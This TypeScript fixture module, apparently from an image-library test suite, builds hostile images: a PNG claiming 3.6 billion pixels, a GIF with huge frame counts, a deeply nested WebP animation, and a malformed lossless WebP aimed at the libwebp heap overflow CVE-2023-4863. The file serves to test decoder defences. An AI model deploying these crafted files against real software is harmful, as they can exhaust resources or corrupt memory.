// Pictures made to hurt who opens them: a few bytes that claim much, and others that are built as no encoder builds them.

import { pngImage } from './media-samples.js';
import { webpChunk, webpPhoto } from './photo-samples.js';

/** Small WebPs as encoders make them, of one point each. */
export const SOUND_WEBPS = {
  'without loss': 'UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==',
  'with loss': 'UklGRiIAAABXRUJQVlA4IBYAAAAwAQCdASoBAAEADsD+JaQAA3AAAAAA',
  moving:
    'UklGRlIAAABXRUJQVlA4WAoAAAASAAAAAAAAAAAAQU5JTQYAAAD/////AABBTk1GJgAAAAAAAAAAAAAAAAAAAGQAAABWUDhMDQAAAC8AAAAQBxAREYiI/gcA',
} as const;

/** 3,600 million points in a hundred bytes. */
export function hugePng(): Buffer {
  const png = pngImage();
  png.writeUInt32BE(60_000, 16);
  png.writeUInt32BE(60_000, 20);
  return png;
}

/** So many frames of one point each on a canvas of a million. */
export function gifOfFrames(frames: number): Buffer {
  const screen = [...Buffer.from('GIF89a', 'latin1'), 0xe8, 3, 0xe8, 3, 0x80, 0, 0, 0, 0, 0, 255, 255, 255];
  const forEver = [0x21, 0xff, 11, ...Buffer.from('NETSCAPE2.0', 'latin1'), 3, 1, 0, 0, 0];
  const control = [0x21, 0xf9, 4, 0, 2, 0, 0, 0];
  const place = [0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0];
  const frame = Buffer.from([...control, ...place, 2, 2, 0x44, 1, 0]);
  return Buffer.concat([
    Buffer.from([...screen, ...forEver]),
    Buffer.alloc(frames * frame.length, frame),
    Buffer.from([0x3b]),
  ]);
}

/** Frames of an animation in frames of an animation, and at the end a whole WebP. */
export function nestedWebp(depth: number): Uint8Array {
  const canvas = webpChunk('VP8X', Uint8Array.of(0x02, 0, 0, 0, 0, 0, 0, 0, 0, 0));
  const head = new Uint8Array(16);
  let inner: Uint8Array = Buffer.from(SOUND_WEBPS['without loss'], 'base64');
  for (let level = 0; level < depth; level++) inner = webpChunk('ANMF', Buffer.concat([head, inner]));
  return webpPhoto([canvas, webpChunk('ANIM', new Uint8Array(6)), inner]);
}

/**
 * A WebP without loss whose table of codes has 280 codes of 15 bits each and nothing else: no tree is made of them, which is
 * what decoders wrote behind their memory for (CVE-2023-4863).
 */
export function webpOfBrokenCodes(): Uint8Array {
  const bits: number[] = [];
  const put = (value: number, count: number) => {
    for (let bit = 0; bit < count; bit++) bits.push((value >> bit) & 1);
  };
  // One point; no transformations, no cache, one group of codes.
  for (const [value, count] of [
    [0x2f, 8],
    [0, 14],
    [0, 14],
    [0, 4],
    [0, 3],
  ] as const)
    put(value, count);
  // Lengths of the codes are themselves coded: all are 15.
  put(0, 1);
  put(15, 4);
  for (let place = 0; place < 18; place++) put(0, 3);
  put(1, 3);
  put(0, 1);
  put(0, 200);
  const bytes = new Uint8Array(Math.ceil(bits.length / 8));
  for (const [index, bit] of bits.entries())
    bytes[index >> 3] = (bytes[index >> 3] ?? 0) | (bit << (index & 7));
  return webpPhoto([webpChunk('VP8L', bytes)]);
}
